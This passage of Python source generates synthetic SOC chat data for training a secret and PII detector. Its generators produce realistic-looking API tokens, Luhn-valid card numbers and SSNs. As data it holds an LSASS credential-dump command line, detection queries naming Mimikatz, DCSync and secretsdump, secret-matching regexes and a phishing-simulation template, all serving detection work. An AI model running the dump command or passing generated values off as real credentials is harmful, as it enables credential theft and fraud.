             "URLSCAN_API_KEY=", "SHODAN_API_KEY=${SHODAN_API_KEY}", "GREYNOISE_KEY=REPLACE_ME"]
    keep = [lines[0]] + sample(lines[1:], R.randint(5, len(lines) - 1))
    return fence("\n".join(keep), "bash")


def ph_vault_refs():
    refs = ["vault:secret/data/soc/misp#authkey", "op://SOC-Automation/VirusTotal/credential", "${{ secrets.VT_API_KEY }}",
            "{{ secrets.SLACK_WEBHOOK }}", "arn:aws:secretsmanager:eu-west-1:123456789012:secret:soar/vt-%s" % rs(ALNUM, 6),
            "projects/soc-prod/secrets/urlscan-key/versions/latest", "azurekeyvault://kv-soc-prod/secrets/defender-app-secret",
            "{{resolve:secretsmanager:soar/slack:SecretString:bot_token}}"]
    return "where the SOAR connectors read their credentials (references only, no values):\n" + "\n".join("• `%s`" % r for r in sample(refs, R.randint(3, 6)))


def ph_aws_doc():
    return ("unit test for the leaked-key detector uses the AWS documentation pair, don't panic when CI prints it:\n```python\n"
            "def test_detects_doc_key():\n    text = \"aws_access_key_id = AKIAIOSFODNN7EXAMPLE\\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\"\n"
            "    assert detector.scan(text)[0].rule == \"%s\"\n```" % pick(["aws_key_pair", "aws-access-key", "AWSKey"]))


def ph_masked_dlp():
    return ("DLP incident %d (blocked): PAN ************%04d, SSN ***-**-****, IBAN %s** **** **** **** **%02d %02d — values masked by the DLP console, originals stay in the evidence store"
            % (R.randint(100000, 999999), R.randint(0, 9999), pick(["DE", "FR", "NL"]), R.randint(0, 99), R.randint(0, 99)))


def ph_stealer_redacted():
    out = []
    for _ in range(R.randint(2, 5)):
        out.append("URL: %s\nUSER: [REDACTED]\nPASS: [REDACTED]\n===============" % pick(["hxxps://login.microsoftonline[.]com/", "hxxps://vpn.corp[.]example/",
                                                                                        "hxxps://portal.office[.]com", "hxxps://github[.]com/login"]))
    return "Passwords.txt from the stealer log, values redacted by the TI vendor:\n" + fence("\n".join(out))


def ph_compose():
    return fence("services:\n  thehive:\n    image: strangebee/thehive:%d.%d\n    environment:\n      - SECRET=${THEHIVE_SECRET:?set in .env}\n"
                 "  cassandra:\n    environment:\n      - CASSANDRA_PASSWORD=changeme   # default, rotated on first boot\n"
                 "  misp-db:\n    environment:\n      MYSQL_PASSWORD: \"${MYSQL_PASSWORD}\"\n      MYSQL_ROOT_PASSWORD: \"\"" % (R.randint(5, 5), R.randint(0, 4)), "yaml")


def ph_curl():
    return ("API calls for the triage cheat-sheet:\n```bash\ncurl -s -H \"x-apikey: $VT_API_KEY\" https://www.virustotal.com/api/v3/files/%s\n"
            "curl -s -H \"Authorization: %s\" -H \"Accept: application/json\" https://misp.soc.internal/attributes/restSearch\n"
            "curl -s -H \"API-Key: <your-urlscan-key>\" https://urlscan.io/api/v1/result/%s/\n```" % (hexs(64), pick(["<misp-auth-key>", "$MISP_KEY", "YOUR_API_KEY"]), uuid4()))


def ph_zip_pw():
    return pick(["samples are on the share in the usual zip, password is `infected` as always — do NOT unzip on a workstation",
                 "Muster liegen im üblichen ZIP (Passwort `infected`), bitte nur in der Analyse-VM öffnen",
                 "サンプルはいつもの zip（パスワード infected）で共有フォルダに置きました",
                 "sample zip uploaded to %s, pw: infected (the usual convention, not a secret)" % inc()])


def ph_pem_snip():
    return ("found on %s under /home/deploy/.ssh/ — key material removed from this message, full file is in the evidence locker EV-%d-%04d\n```\n"
            "-----BEGIN OPENSSH PRIVATE KEY-----\n<snip: %d lines>\n-----END OPENSSH PRIVATE KEY-----\n```" % (lin_host(), R.randint(2024, 2026), R.randint(1, 999), R.randint(7, 40)))


def ph_stripe_test():
    return pick(["fraud-rule unit tests use the public Stripe test card 4242 4242 4242 4242 and the textbook IBAN DE89 3704 0044 0532 0130 00, nothing real",
                 "BEC awareness deck example: \"change our bank details to GB82WEST12345698765432\" — that's the textbook IBAN from the spec, fine to show",
                 "test fixture: card=4242424242424242 exp=12/34 cvc=123 (Stripe docs)"])


def ph_phish_sim():
    return ("simulation template for next week (GoPhish vars):\n```html\n<p>Hi {{.FirstName}},</p>\n<p>Your mailbox is almost full. <a href=\"{{.URL}}\">Upgrade storage</a></p>\n"
            "<img src=\"{{.TrackingURL}}\">\n```\nreply-to stays <sim-sender>, landing page asks for a fake password field that posts nowhere")


def ph_jwt_trunc():
    return ("the API gateway logs only the first bytes of the token: `Authorization: Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6%s…(truncated)` — can't tell the user from that"
            % rs(ALNUM, R.randint(4, 12)))


def ph_conn_defaults():
    return pick(["Cortex test stack still uses the docs default `postgres://user:password@localhost:5432/cortex` — fine for the lab, flagged for prod",
                 "local RabbitMQ for the SOAR dev env: `amqp://guest:guest@localhost:5672/` (factory default, loopback only)",
                 "lab elastic: `http://elastic:changeme@localhost:9200` — the old default, it's the isolated malware lab"])


def ph_masks():
    return pick(["form field hint: card `xxxx-xxxx-xxxx-xxxx`, SSN `XXX-XX-XXXX`, phone `+XX XXX XXX XXXX`",
                 "regex test data: `XXX-XX-XXXX` and `***-**-****` must NOT match",
                 "masking format in the ticket system: •••• %04d for cards, ****@**** for mailboxes" % R.randint(0, 9999)])


def ph_vendor_prefixes():
    return pick(["the scanner understands these prefixes: `sk-...`, `sk-proj-…`, `sk-ant-api03-...`, `ghp_…`, `github_pat_...`, `xoxb-…`, `xoxp-…`, `AKIA…`, `glpat-…`",
                 "when you report a leaked key, write the type and the last 4 only, e.g. `sk-...a1b2` or `ghp_…9f3c`",
                 "Slack tokens look like `xoxb-<team>-<bot>-<secret>`; if you see one in a paste, ping @secops-rotation"])


def ph_cred_form():
    return ("IR intake form, section 4:\n```\nCompromised credential type: [ ] password [ ] API key [ ] token [ ] private key\nValue:   DO NOT PASTE — reference the vault path only\n"
            "Owner:   <service / team>\nRotated: YYYY-MM-DD\n```")


def ph_secret_regex():
    return ("secret-scanner rules we added to the SIEM parser:\n```yaml\n- id: aws-key-id\n  regex: 'AKIA[0-9A-Z]{16}'\n- id: slack-token\n  regex: 'xox[baprs]-[0-9a-zA-Z-]{10,48}'\n"
            "- id: github-pat\n  regex: 'ghp_[0-9a-zA-Z]{36}'\n- id: pem\n  regex: '-----BEGIN [A-Z ]*PRIVATE KEY-----'\n```")


def ph_password_star():
    return ("`net use \\\\%s\\C$ /user:CORP\\svc_%s ********` — EDR masks the argument, so we only know a password was passed on the command line"
            % (win_host(), pick(["backup", "sql", "deploy", "scan"])))


PH_T = [ph_ioc_template, ph_handover_redacted, ph_env_example, ph_vault_refs, ph_aws_doc, ph_masked_dlp, ph_stealer_redacted,
        ph_compose, ph_curl, ph_zip_pw, ph_pem_snip, ph_stripe_test, ph_phish_sim, ph_jwt_trunc, ph_conn_defaults, ph_masks,
        ph_vendor_prefixes, ph_cred_form, ph_secret_regex, ph_password_star]


# =============================================================== NEGATIVES: code_identifier
MITRE = [("T1003.001", "OS Credential Dumping: LSASS Memory"), ("T1555.003", "Credentials from Web Browsers"),
         ("T1552.001", "Unsecured Credentials: Credentials In Files"), ("T1110.003", "Password Spraying"),
         ("T1528", "Steal Application Access Token"), ("T1558.003", "Kerberoasting"), ("T1539", "Steal Web Session Cookie"),
         ("T1552.004", "Unsecured Credentials: Private Keys"), ("T1556.006", "Modify Authentication Process: MFA"),
         ("T1059.001", "PowerShell"), ("T1218.011", "Rundll32"), ("T1566.001", "Spearphishing Attachment")]


def ci_mitre():
    return "ATT&CK mapping for %s:\n%s" % (inc(), "\n".join("- %s %s" % t for t in sample(MITRE, R.randint(3, 7))))


def ci_imports():
    apis = [("ADVAPI32.dll", "CredEnumerateW"), ("ADVAPI32.dll", "CredReadW"), ("CRYPT32.dll", "CryptUnprotectData"),
            ("ADVAPI32.dll", "LsaRetrievePrivateData"), ("ADVAPI32.dll", "RegOpenKeyExW"), ("KERNEL32.dll", "VirtualAllocEx"),
            ("KERNEL32.dll", "WriteProcessMemory"), ("WINHTTP.dll", "WinHttpSendRequest"), ("bcrypt.dll", "BCryptDecrypt"),
            ("DBGHELP.dll", "MiniDumpWriteDump"), ("SAMLIB.dll", "SamIConnect"), ("VAULTCLI.dll", "VaultEnumerateItems")]
    out = ["%-14s %-26s IAT 0x%08x" % (d, f, R.randint(0x10000, 0x4fffff)) for d, f in sample(apis, R.randint(5, 10))]
    return "capa/pefile imports of the stealer:\n" + fence("\n".join(out))


def ci_sigma():
    return fence(("title: LSASS dump via comsvcs MiniDump\nid: %s\nstatus: test\nlogsource:\n  category: process_creation\n  product: windows\n"
                  "detection:\n  selection_img:\n    Image|endswith: '\\rundll32.exe'\n  selection_cli:\n    CommandLine|contains|all:\n      - 'comsvcs'\n      - 'MiniDump'\n"
                  "  condition: all of selection_*\nfields:\n  - CommandLine\n  - ParentImage\nfalsepositives:\n  - %s\nlevel: high\ntags:\n  - attack.credential_access\n  - attack.t1003.001")
                 % (uuid4(), pick(["none known", "backup agents", "vendor troubleshooting"])), "yaml")


def ci_kql():
    return fence("DeviceProcessEvents\n| where Timestamp > ago(%dd)\n| where ProcessCommandLine has_any (\"sekurlsa::logonpasswords\", \"lsadump::dcsync\", \"Get-GPPPassword\", \"Invoke-Kerberoast\")\n"
                 "| project Timestamp, DeviceName, AccountName, InitiatingProcessFileName, ProcessCommandLine\n| order by Timestamp desc" % R.randint(1, 30), "kql")


def ci_spl():
    return fence("`edr_index` sourcetype=%s (CommandLine=\"*secretsdump*\" OR CommandLine=\"*ntds.dit*\" OR CommandLine=\"*SAM*save*\")\n"
                 "| `drop_known_backup_agents`\n| stats count min(_time) as first_seen by host, user, parent_process_name\n| `security_content_ctime(first_seen)`" % pick(["crowdstrike:events", "sysmon", "xmlwineventlog"]), "spl")


def ci_yara_stealer():
    return fence(("rule MAL_Stealer_Browser_Creds_%d {\n  strings:\n    $q1 = \"SELECT origin_url, username_value, password_value FROM logins\" ascii\n"
                  "    $q2 = \"SELECT host_key, name, encrypted_value FROM cookies\" ascii\n    $f1 = \"\\\\Login Data\" wide\n    $f2 = \"Local State\" ascii\n"
                  "    $k = \"os_crypt.encrypted_key\" ascii\n  condition:\n    uint16(0) == 0x5A4D and 3 of them\n}") % R.randint(1, 99), "yara")


def ci_python_soar():
    return fence(("import os\nimport boto3\n\nVT_API_KEY = os.environ[\"VT_API_KEY\"]\nsm = boto3.client(\"secretsmanager\")\n\n"
                  "def slack_bot_token() -> str:\n    return sm.get_secret_value(SecretId=\"soar/slack_bot_token\")[\"SecretString\"]\n\n"
                  "def enrich(sha256: str) -> dict:\n    headers = {\"x-apikey\": VT_API_KEY}\n    return vt_session.get(f\"{VT_BASE}/files/{sha256}\", headers=headers, timeout=%d).json()\n") % R.randint(5, 30), "python")


def ci_registry():
    keys = ["HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential",
            "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa\\RunAsPPL", "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa\\DisableRestrictedAdmin",
            "HKLM\\SECURITY\\Policy\\Secrets", "HKLM\\SAM\\SAM\\Domains\\Account", "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
            "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\DefaultPassword",
            "HKLM\\SYSTEM\\CurrentControlSet\\Services\\%s\\ImagePath" % rs(LO, 8)]
    return "registry keys to pull from every host in scope:\n" + fence("\n".join(sample(keys, R.randint(4, 7))))


def ci_velo_artifacts():
    arts = ["Windows.KapeFiles.Targets", "Windows.EventLogs.EvtxHunter", "Windows.Detection.Mutants", "Windows.Registry.NTUser",
            "Windows.Forensics.Prefetch", "Windows.System.Pslist", "Windows.Network.NetstatEnriched", "Generic.Client.Info",
            "Windows.Detection.Yara.Process", "Windows.Sys.Users", "Windows.Forensics.Lnk"]
    return "collection spec: %s (params: `KapeTriage=Y`, `UploadFiles=N`, `VSSAnalysisAge=%d`)" % (", ".join("`%s`" % a for a in sample(arts, R.randint(3, 6))), R.randint(0, 30))


def ci_pipes():
    items = ["\\\\.\\pipe\\msagent_%s" % hexs(2), "\\\\.\\pipe\\MSSE-%d-server" % R.randint(1000, 9999), "\\\\.\\pipe\\postex_%s" % hexs(4),
             "\\\\.\\pipe\\status_%s" % hexs(2), "Global\\%s" % uuid4(True), "Local\\SM0:%d:304:WilStaging_02" % R.randint(1000, 9999)]
    return "named pipes / mutexes seen on the beaconing hosts (default CS profile?):\n" + "\n".join("`%s`" % i for i in sample(items, R.randint(3, 5)))


def ci_ghidra():
    return fence(("undefined4 FUN_%08x(char *param_1)\n{\n  undefined4 uVar1;\n  byte local_%x [256];\n\n  rc4_key_schedule(local_%x, &DAT_%08x, 0x10);\n"
                  "  decrypt_config(&DAT_%08x, 0x%x, local_%x);\n  uVar1 = parse_c2_list(param_1, &DAT_%08x);\n  return uVar1;\n}") %
                 (R.randint(0x401000, 0x40ffff), R.randint(0x100, 0x200), 0x114, R.randint(0x41c000, 0x41cfff), R.randint(0x41c000, 0x41cfff),
                  R.randint(0x100, 0x800), 0x114, R.randint(0x41c000, 0x41cfff)), "c")


def ci_zeek():
    return fence("module CredHunt;\n\nexport {\n    redef enum Notice::Type += { Basic_Auth_Cleartext, Bearer_Over_HTTP };\n}\n\n"
                 "event http_header(c: connection, is_orig: bool, name: string, value: string)\n    {\n    if ( is_orig && name == \"AUTHORIZATION\" && /^[Bb]asic/ in value )\n"
                 "        NOTICE([$note=Basic_Auth_Cleartext, $conn=c, $msg=\"cleartext basic auth\", $identifier=cat(c$id$resp_h)]);\n    }", "zeek")


def ci_suricata_rule():
    return fence(("alert http $HOME_NET any -> $EXTERNAL_NET any (msg:\"SOC LOCAL %s exfil of browser Login Data\"; flow:established,to_server; "
                  "http.method; content:\"POST\"; http.request_body; content:\"Login Data\"; fast_pattern; classtype:trojan-activity; sid:%d; rev:%d;)")
                 % (pick(FAMILIES), R.randint(9000000, 9099999), R.randint(1, 5)))


def ci_py_trace():
    return fence(("Traceback (most recent call last):\n  File \"/opt/cortex/analyzers/VirusTotal/virustotal.py\", line %d, in run\n    self.vt_api_key = self.get_param(\"config.key\", None, \"Missing VirusTotal API key\")\n"
                  "  File \"/usr/lib/python3/dist-packages/cortexutils/analyzer.py\", line %d, in get_param\n    self.error(message)\n"
                  "cortexutils.worker.AnalyzerError: Missing VirusTotal API key") % (R.randint(40, 200), R.randint(40, 120)))


def ci_go_panic():
    return fence(("panic: runtime error: invalid memory address or nil pointer dereference\n[signal SIGSEGV: segmentation violation code=0x1 addr=0x18 pc=0x%x]\n\n"
                  "goroutine %d [running]:\ngithub.com/acme-soc/alertrouter/internal/enrich.(*SecretResolver).Resolve(0x0, {0xc000%x, 0x%x})\n"
                  "\t/src/internal/enrich/secrets.go:%d +0x%x\ngithub.com/acme-soc/alertrouter/internal/enrich.(*VTClient).LookupHash(0xc000%x, {0xc000%x, 0x40})\n"
                  "\t/src/internal/enrich/virustotal.go:%d +0x%x\nmain.main()\n\t/src/cmd/alertrouter/main.go:%d +0x%x") %
                 (R.randint(0x400000, 0x9fffff), R.randint(1, 400), R.randint(0x10000, 0xfffff), R.randint(8, 40), R.randint(20, 300), R.randint(0x10, 0x3ff),
                  R.randint(0x10000, 0xfffff), R.randint(0x10000, 0xfffff), R.randint(20, 300), R.randint(0x10, 0x3ff), R.randint(20, 200), R.randint(0x10, 0x3ff)))


def ci_terraform():
    res = ["aws_guardduty_detector.main", "aws_securityhub_account.this", "aws_secretsmanager_secret.siem_ingest_token",
           "aws_secretsmanager_secret_version.siem_ingest_token", "aws_iam_access_key.soar_enrichment", "aws_kms_key.cloudtrail_logs",
           "module.siem_forwarder.aws_lambda_function.forward", "aws_cloudwatch_event_rule.guardduty_high"]
    return "plan for the detection infra:\n" + fence("\n".join("  %s %s" % (pick(["+", "~", "-/+"]), r) for r in sample(res, R.randint(3, 7))) +
                                                  "\nPlan: %d to add, %d to change, %d to destroy." % (R.randint(0, 5), R.randint(0, 5), R.randint(0, 2)))


def ci_falco():
    pods = ["falco-%s" % rs(LO + DIG, 5), "alertrouter-%s-%s" % (hexs(10), rs(LO + DIG, 5)), "zeek-sensor-%s" % rs(LO + DIG, 5)]
    return ("Falco: rule `Read sensitive file untrusted` (macro `sensitive_files`, list `sensitive_file_names`) fired on pods %s" % ", ".join("`%s`" % p for p in pods))


def ci_ecs():
    f = ["user.name", "process.hash.sha256", "threat.indicator.file.hash.sha256", "source.ip", "destination.domain", "tls.client.ja3",
         "event.action", "process.command_line", "file.code_signature.subject_name", "related.hash", "threat.enrichments.indicator.url.full"]
    return "ECS fields the new pipeline must populate: " + ", ".join("`%s`" % x for x in sample(f, R.randint(4, 8)))


def ci_ps_functions():
    fn = ["Invoke-Mimikatz", "Get-GPPPassword", "Invoke-Kerberoast", "Get-DomainUser -SPN", "Find-InterestingDomainAcl", "Invoke-SharpSecretsDump",
          "Get-VaultCredential", "Invoke-TokenManipulation", "Get-LSASecret", "Invoke-DCSync"]
    return "ScriptBlock logging (4104) on %s shows these functions being defined: %s" % (win_host(), ", ".join("`%s`" % x for x in sample(fn, R.randint(3, 6))))


def ci_detections():
    d = ["Trojan:Win32/Lumma.ASGH!MTB", "HackTool:Win64/Mimikatz!pz", "Behavior:Win32/CredentialAccess.LsassDump", "VirTool:Win64/CobaltStrike.A",
         "Trojan:Win32/Qakbot.PA!MTB", "PWS:Win32/RedLine.GN!MTB", "Trojan:Script/Wacatac.B!ml", "HackTool:Win32/SecretsDump.A"]
    return "Defender detections on the infected endpoints:\n" + "\n".join("- %s  (%d hosts)" % (x, R.randint(1, 30)) for x in sample(d, R.randint(3, 6)))


def ci_lsass_cmd():
    return ("command line from the alert: `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump %d C:\\Windows\\Temp\\%s.dmp full` — "
            "classic T1003.001, the PID matches lsass.exe on that host" % (R.randint(500, 1500), rs(LO, 5)))


def ci_kotlin_names():
    n = pick(["PasswordSprayDetector", "StolenTokenReplayCorrelator", "PrivateKeyExposureScanner", "SecretLeakTriageService", "IbanChangeBecHeuristic"])
    return fence(("class %s(\n    private val credentialStore: CredentialStoreClient,\n    private val apiKeyRotationQueue: RotationQueue,\n) {\n"
                  "    fun onAlert(alert: Alert) {\n        val leakedSecretRef = alert.observables.firstOrNull { it.type == ObservableType.SECRET_REFERENCE }\n"
                  "        apiKeyRotationQueue.enqueue(leakedSecretRef?.vaultPath ?: return)\n    }\n}") % n, "kotlin")


CI_T = [ci_mitre, ci_imports, ci_sigma, ci_kql, ci_spl, ci_yara_stealer, ci_python_soar, ci_registry, ci_velo_artifacts, ci_pipes,
        ci_ghidra, ci_zeek, ci_suricata_rule, ci_py_trace, ci_go_panic, ci_terraform, ci_falco, ci_ecs, ci_ps_functions, ci_detections,
        ci_lsass_cmd, ci_kotlin_names]


# =============================================================== NEGATIVES: talk_about_secrets
TALK = {
    "en": ["we rotated every credential that touched the jump host, including the service accounts — nothing was pasted here, check the vault audit log",
           "please don't paste API keys in this channel, even revoked ones; drop the vault path instead",
           "the stealer log had saved browser passwords for 11 accounts, all reset and MFA re-registered",
           "legal wants to know whether any SSNs left the network — DLP says no match on the egress proxy",
           "BEC attempt: the fake invoice asked finance to switch the vendor's IBAN, payment was stopped before release",
           "the private key of the VPN appliance may have been exposed by the CVE, so we're reissuing the cert regardless",
           "who owns the Slack bot token for the SOAR? it needs rotating after the workspace export",
           "the attacker's callback phone number is in the ticket attachments, not in here",
           "PCI scope question: did any card numbers end up in the EDR telemetry? I grepped the index, zero hits",
           "JWT signing secret for the customer portal was rotated at 03:10, all sessions got invalidated",
           "the GitHub PAT from the leaked CI log was already expired, confirmed with the org audit log",
           "reminder: passwords in command lines end up in 4688 events and Sysmon, tell the admins to stop doing that",
           "we found an AWS access key in the public repo's history; key disabled, CloudTrail shows no use outside our ranges",
           "the phishing kit forwards harvested passwords to a Telegram bot, we reported the bot",
           "rotating the OpenAI key the SOC copilot uses, expect a few minutes of failures",
           "the email addresses from the phish recipient list are in the case file, not in slack please",
           "if a user reads their password out on a bridge call, treat it as burned and force a reset",
           "the Anthropic key in the notebook was a dummy, the real one lives in the secret manager"],
    "de": ["Bitte keine Passwörter oder Tokens hier posten, nur den Pfad im Vault.",
           "Der private Schlüssel vom Webserver gilt als kompromittiert, das Zertifikat wird heute widerrufen.",
           "Im Stealer-Log waren Zugangsdaten für drei Mitarbeitende, alle zurückgesetzt.",
           "Die IBAN in der gefälschten Rechnung wurde nicht überwiesen, die Buchhaltung hat rechtzeitig angerufen.",
           "Wir rotieren heute Nacht alle API-Schlüssel der SOAR-Integrationen.",
           "Kreditkartennummern tauchen in den Logs nicht auf, die DLP-Regel hat nichts gefunden.",
           "Der Angreifer hat versucht, das Passwort des Dienstkontos per Password Spraying zu erraten, ohne Erfolg."],
    "fr": ["Merci de ne jamais coller de mot de passe ou de clé d'API dans ce canal.",
           "Le jeton Slack du bot a été révoqué après l'export de l'espace de travail.",
           "La clé privée du reverse proxy est considérée comme compromise, on régénère le certificat.",
           "Les numéros de carte n'apparaissent pas dans les journaux, le DLP est propre.",
           "Le faux RIB envoyé par l'attaquant n'a pas été utilisé, la compta a vérifié par téléphone.",
           "On a réinitialisé les mots de passe des comptes trouvés dans le journal du stealer."],
    "es": ["Por favor, no peguéis contraseñas ni tokens aquí; solo la ruta del vault.",
           "La clave privada del balanceador se considera expuesta, vamos a reemitir el certificado.",
           "El IBAN de la factura falsa no llegó a usarse, finanzas lo paró a tiempo.",
           "Hemos rotado todas las claves de API de las integraciones del SOAR.",
           "En el log del stealer había contraseñas guardadas de cuatro cuentas, ya están reseteadas."],
    "pt": ["Não colem senhas nem chaves de API neste canal, por favor.", "O token do bot do Slack foi revogado depois do incidente.",
           "A chave privada do servidor foi considerada comprometida e o certificado será reemitido.",
           "Nenhum número de cartão apareceu nos logs do EDR.", "As senhas encontradas no log do infostealer já foram redefinidas."],
    "nl": ["Plak hier alsjeblieft geen wachtwoorden of API-sleutels, alleen het pad in de vault.",
           "De private key van de VPN-gateway is mogelijk gelekt, het certificaat wordt vervangen.",
           "Het IBAN-nummer in de valse factuur is niet gebruikt, de betaling is tegengehouden.",
           "Alle tokens van de SOAR-koppelingen zijn vannacht geroteerd."],
    "pl": ["Proszę nie wklejać tu haseł ani kluczy API, tylko ścieżkę w sejfie.",
           "Klucz prywatny bramy VPN uznajemy za skompromitowany, certyfikat zostanie wymieniony.",
           "Hasła z logu stealera zostały zresetowane, MFA wymuszone ponownie.", "Numery kart nie pojawiły się w telemetrii EDR."],
    "it": ["Per favore non incollate password o chiavi API in questo canale.",
           "La chiave privata del proxy è da considerare compromessa, rigeneriamo il certificato.",
           "L'IBAN della fattura falsa non è stato usato, il pagamento è stato bloccato.",
           "Abbiamo ruotato tutti i token delle integrazioni SOAR stanotte."],
    "ja": ["パスワードやAPIキーをこのチャンネルに貼らないでください。Vaultのパスだけ共有してください。",
           "VPN装置の秘密鍵が漏えいした可能性があるため、証明書を再発行します。",
           "インフォスティーラーのログに保存されていたパスワードは全てリセット済みです。",
           "偽の請求書に書かれていた口座番号には送金されていません。", "SOARのSlackボットトークンは本日ローテーションしました。"],
    "ru": ["Пожалуйста, не публикуйте здесь пароли и API-ключи, только путь в хранилище.",
           "Закрытый ключ VPN-шлюза считаем скомпрометированным, сертификат перевыпускаем.",
           "Пароли из лога стилера уже сброшены, MFA перерегистрирована.", "Номера карт в телеметрии EDR не обнаружены.",
           "Токен Slack-бота отозван после инцидента."],
    "zh": ["请不要在这个频道里粘贴密码或API密钥，只贴保险库路径。", "VPN网关的私钥可能已经泄露，证书今天重新签发。",
           "窃密木马日志里的账号密码已经全部重置。", "EDR遥测里没有发现银行卡号。", "伪造发票里的收款账户没有被使用，财务及时拦截了。"],
    "ko": ["이 채널에 비밀번호나 API 키를 붙여넣지 마세요. 볼트 경로만 공유해 주세요.", "VPN 장비의 개인 키가 유출됐을 수 있어서 인증서를 재발급합니다.",
           "인포스틸러 로그에 있던 계정 비밀번호는 모두 초기화했습니다.", "SOAR 슬랙 봇 토큰은 오늘 교체했습니다."],
}
TALK_FLAT = [(lang, s) for lang in TALK for s in TALK[lang]]

BULLETS = ["No credentials were pasted into chat during the incident.", "All tokens issued before 02:00 UTC were revoked.",
           "The service account password was reset and the old hash purged from the DC replication queue.",
           "The leaked API key had read-only scope; no write calls in the audit log.", "Customer card data was out of scope (tokenised upstream).",
           "The signing key for the SSO was not on the affected host.", "Users from the stealer log were forced through password reset + MFA re-enrolment.",
           "The vault audit log shows no reads of the break-glass secret.", "We will add secret scanning to the CI for the detection-rules repo.",
           "No personal data (SSN, phone, home address) was in the exfiltrated share."]


def tk_single():
    lang, s = pick(TALK_FLAT)
    if chance(0.3):
        s += " (%s)" % inc()
    return s


def tk_pair():
    a = pick(TALK_FLAT)[1]
    b = pick(TALK_FLAT)[1]
    return "> %s\n%s" % (a, b)


def tk_summary():
    bl = sample(BULLETS, R.randint(3, 6))
    return "*%s — credential exposure summary*\n%s" % (inc(), "\n".join("• " + b for b in bl))


def tk_runbook():
    return ("Leaked key runbook, short version:\n1. Disable or revoke the key in the provider console first, ask questions later.\n"
            "2. Rotate anything that shared a vault path with it.\n3. Search the audit trail (CloudTrail / GitHub audit log / Slack access logs) for use since the leak.\n"
            "4. Record the key *type* and last four characters in the ticket — never the value.\n5. Tell the owner, and close only once the replacement is deployed.")


def tk_faq():
    qa = [("Q: can someone DM me the MISP API key?", "A: no — request access to the vault group, reads are logged."),
          ("Q: the user sent their password in the phishing report, what now?", "A: reset it, tell them, delete the message from the report mailbox."),
          ("Q: is a revoked token still a secret?", "A: treat it as one; it can tell an attacker about our formats and scopes."),
          ("Q: do we redact IBANs in BEC tickets?", "A: yes, keep the country and last four only."),
          ("Q: can I paste a private key to prove it's the leaked one?", "A: compare fingerprints instead, never the key.")]
    return "\n\n".join("%s\n%s" % x for x in sample(qa, R.randint(2, 4)))


def tk_regex_talk():
    return pick(["our Sigma rule for passwords in command lines matches `-p ` and `/password:` and is way too noisy on the backup servers",
                 "the DLP card rule fires on every Luhn-valid 16-digit number, including our own ticket ids — we need a BIN allow-list",
                 "the SSN detector wants the dashes, so a 9-digit employee id never matches, which is what we want",
                 "phone-number detection in the mail gateway keeps flagging order numbers; tune it to require a country code"])


def tk_multilang():
    langs = sample(LANG_KEYS, 2)
    return "%s\n%s" % (pick(TALK[langs[0]]), pick(TALK[langs[1]]))


TK_T = [tk_single, tk_single, tk_pair, tk_summary, tk_runbook, tk_faq, tk_regex_talk, tk_multilang]

NEG_CATS = [("non_credential_blob", NB_T), ("pii_lookalike_number", PN_T), ("data_uri_base64", DU_T),
            ("placeholder_example", PH_T), ("code_identifier", CI_T), ("talk_about_secrets", TK_T)]

# =============================================================== POSITIVES: value generators
def b62enc(n):
    s = ""
    while n:
        n, r = divmod(n, 62)
        s = B62[r] + s
    return s or "0"


def v_ghp():
    body = rs(ALNUM, 30)
    return "ghp_" + body + b62enc(zlib.crc32(body.encode()) & 0xFFFFFFFF).rjust(6, "0")


def v_ghfg():
    return "github_pat_11" + rs(UP + DIG, 20) + "_" + rs(ALNUM, 59)


def v_slack_bot():
    return "xoxb-%d-%d-%s" % (R.randint(10 ** 9, 10 ** 12), R.randint(10 ** 11, 10 ** 13), rs(ALNUM, 24))


def v_slack_user():
    return "xoxp-%d-%d-%d-%s" % (R.randint(10 ** 9, 10 ** 12), R.randint(10 ** 9, 10 ** 12), R.randint(10 ** 11, 10 ** 13), hexs(32))


def v_openai():
    k = R.randrange(3)
    if k == 0:
        return "sk-proj-" + rs(B64U, 74) + "T3BlbkFJ" + rs(B64U, 74)
    if k == 1:
        return "sk-" + rs(ALNUM, 20) + "T3BlbkFJ" + rs(ALNUM, 20)
    return "sk-svcacct-" + rs(B64U, 74) + "T3BlbkFJ" + rs(B64U, 74)


def v_anthropic():
    return "sk-ant-api03-" + rs(B64U, 93) + "AA"


def v_akid():
    while True:
        v = pick(["AKIA", "AKIA", "AKIA", "ASIA"]) + rs(B32U, 16)
        if "EXAMPLE" not in v:
            return v


def v_aws_secret():
    return rs(B64C, 40)


CARD_BRANDS = [("4", 16), ("51", 16), ("53", 16), ("55", 16), ("2221", 16), ("2720", 16), ("34", 15), ("37", 15), ("6011", 16), ("65", 16), ("4", 13)]


def v_card():
    while True:
        pre, L = pick(CARD_BRANDS)
        body = pre + rs(DIG, L - len(pre) - 1)
        for c in DIG:
            if luhn_ok(body + c):
                num = body + c
                break
        if num.startswith("4242") or num in ALLOWED_CARDS:
            continue
        style = R.randrange(3)
        if style == 0:
            return num
        sepc = " " if style == 1 else "-"
        if L == 15:
            return sepc.join([num[:4], num[4:10], num[10:]])
        return sepc.join(num[i:i + 4] for i in range(0, L, 4))


FIRST = ["accounts.payable", "billing", "ap-invoices", "noreply-docs", "hr.payroll", "it-support", "finance.team", "treasury", "orders",
         "procurement", "k.vasquez", "m.okafor", "j.lindqvist", "a.moreau", "t.nakamura", "s.petrova", "d.romano", "r.kowalczyk", "ops-alerts"]
DOMS = ["nordwind-logistik.de", "brightmoor-supply.com", "castellan-advisory.co.uk", "sakura-trading.co.jp", "lumenfield.io", "halden-freight.no",
        "vermeer-bouw.nl", "gmail.com", "outlook.com", "proton.me", "yandex.ru", "qq.com", "naver.com", "marisol-textiles.es", "oliveira-transportes.pt"]


def v_email():
    return pick(FIRST) + pick(["", "", str(R.randint(1, 99))]) + "@" + pick(DOMS)


def v_ssn():
    while True:
        a = R.randint(1, 899)
        if a == 666:
            continue
        g = R.randint(1, 99)
        s = R.randint(1, 9999)
        v = "%03d-%02d-%04d" % (a, g, s)
        if v in ("078-05-1120", "219-09-9999"):
            continue
        return v


